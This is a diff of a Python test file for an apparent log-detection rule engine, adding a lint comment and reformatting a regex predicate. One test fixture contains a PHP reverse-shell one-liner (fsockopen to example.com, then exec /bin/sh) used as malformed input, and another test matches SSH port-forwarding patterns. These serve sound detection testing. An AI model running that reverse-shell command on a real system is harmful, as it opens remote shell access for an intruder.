@@ -82,7 +82,7 @@ class TestMalformed:
 
     def test_bad_candidate_line_is_wrapped(self, shipped: Ruleset) -> None:
         """A line that hits a prefilter literal but is not JSON is still forwarded and counted."""
-        line = b'{"process": {"command_line": "php -r \'$s=fsockopen(\\"example.com\\",80);exec(\\"/bin/sh\\");\'" {broken'
+        line = b'{"process": {"command_line": "php -r \'$s=fsockopen(\\"example.com\\",80);exec(\\"/bin/sh\\");\'" {broken'  # noqa: E501  one line, as read
         out, stats = _process(shipped, line + b"\n")
         assert msgspec.json.decode(out[0]) == {"message": line.decode()}
         assert stats.candidates == 1 and stats.malformed["invalid_json"] == 1
@@ -415,7 +415,8 @@ class TestAnchorClauses:
 
         ip = r"[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}"
         query = AllOf((Predicate("host.os.type", Op.EQ, ("linux",), True),
-                       Predicate("process.command_line", Op.REGEX, (rf"(?s)\A(?:.*{ip}:[0-9]{{1,5}}:{ip}.*)\z",), True)))
+                       Predicate("process.command_line", Op.REGEX, (rf"(?s)\A(?:.*{ip}:[0-9]{{1,5}}:{ip}.*)\z",),
+                                 True)))
         events = [{"host": {"os": {"type": "linux"}}, "process": {"command_line": "ssh -L 8080 10.0.0.1"}},
                   {"host": {"os": {"type": "linux"}}, "process": {"command_line": "ssh -L 1.2.3.4:80:5.6.7.8 x"}},
                   {"host": {"os": {"type": "linux"}}, "process": {"command_line": "x 1.2.3.4:80:5.6.7.8\t\"y\""}},
